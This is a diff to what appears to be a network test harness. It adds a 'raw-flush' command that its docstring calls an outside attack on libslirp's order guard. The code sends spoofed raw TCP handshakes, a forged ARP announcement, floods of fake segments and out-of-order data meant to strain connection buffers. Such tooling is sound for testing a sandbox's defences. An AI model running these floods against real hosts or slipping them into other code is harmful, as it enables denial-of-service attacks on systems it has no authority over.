@@ -199,6 +199,72 @@ def raw_ooo(args):
     print("window", win)
 
 
+def raw_flush(args):
+    """Outside attack B3 on the order guard: --conns TCP connections to ADDR:PORT made by hand
+    from --src (an address the netns does not have), then --rounds rounds of --fakes data
+    segments on made-up flows (libslirp holds no socket for them and answers each with a RST)
+    followed by one 1-byte segment past a gap on every connection, two bytes further each
+    round. Prints how many connections were made. --save FILE: only make the connections,
+    kept in FILE; --load FILE: only the rounds, on the connections kept there."""
+    gw_mac, own_mac = tap_macs(args.dev)
+    src, dst = socket.inet_aton(args.src), socket.inet_aton(args.addr)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    s.bind((args.dev, 0))
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
+    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + own_mac + src + bytes(6) + \
+        socket.inet_aton("10.0.2.2")
+    s.send(b"\xff" * 6 + own_mac + b"\x08\x06" + arp)
+
+    def seg(sport, dport, seq, ack, flags, data=b""):
+        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0,
+                          0) + data
+        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", inet_csum(pseudo + tcp)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64,
+                         socket.IPPROTO_TCP, 0)
+        ip = ip[:10] + struct.pack("!H", inet_csum(ip + src + dst)) + src + dst
+        return gw_mac + own_mac + b"\x08\x00" + ip + tcp
+
+    isn, base = 1000, 20000
+    srv = {}
+    if args.load:
+        with open(args.load) as saved:
+            srv = {int(k): v for k, v in json.load(saved).items()}
+    deadline = time.monotonic() + args.timeout
+    s.settimeout(0.2)
+    while not args.load and len(srv) < args.conns and time.monotonic() < deadline:
+        for i in range(args.conns):
+            if base + i not in srv:
+                s.send(seg(base + i, args.port, isn, 0, 0x02))
+        end = time.monotonic() + 1
+        while len(srv) < args.conns and time.monotonic() < end:
+            try:
+                d, a = s.recvfrom(70000)
+            except socket.timeout:
+                continue
+            if a[2] == socket.PACKET_OUTGOING or d[12:14] != b"\x08\x00" or d[23] != 6:
+                continue
+            t = d[14 + (d[14] & 15) * 4:]
+            sport = struct.unpack("!H", t[2:4])[0]
+            if base <= sport < base + args.conns and t[13] & 0x12 == 0x12:
+                srv[sport] = struct.unpack("!I", t[4:8])[0]
+    if args.save:
+        for sport, ack in srv.items():
+            s.send(seg(sport, args.port, isn + 1, ack + 1, 0x10))
+        with open(args.save, "w") as saved:
+            json.dump(srv, saved)
+        print("connections", len(srv))
+        return
+    fakes = [seg(1024 + i % 16384, args.port + 1 + i // 16384, 5000, 7000, 0x18, b"F")
+             for i in range(args.fakes)]
+    for r in range(args.rounds):
+        for f in fakes:
+            s.send(f)
+        for sport, ack in srv.items():
+            s.send(seg(sport, args.port, isn + 2 + 2 * r, ack + 1, 0x18, b"X"))
+    print("connections", len(srv))
+
+
 def raw_syn(args):
     """Write TCP SYNs to ADDR:PORT straight onto the tap, as a guest's own stack never would
     (to the host's loopback, say), from slirp's guest address to slirp's gateway MAC."""
@@ -858,6 +924,15 @@ def main():
     p.add_argument("--ip-options", action="store_true")
     p.add_argument("--count", type=int, default=30000)
     p.add_argument("--timeout", type=float, default=5.0)
+    p = endpoint_command(sub, "raw-flush", raw_flush)
+    p.add_argument("--dev", default="tap0")
+    p.add_argument("--src", default="10.0.2.60")
+    p.add_argument("--conns", type=int, default=50)
+    p.add_argument("--fakes", type=int, default=16000)
+    p.add_argument("--rounds", type=int, default=20)
+    p.add_argument("--save")
+    p.add_argument("--load")
+    p.add_argument("--timeout", type=float, default=10.0)
     p = endpoint_command(sub, "raw-syn", raw_syn)
     p.add_argument("--dev", default="tap0")
     p.add_argument("--count", type=int, default=3)
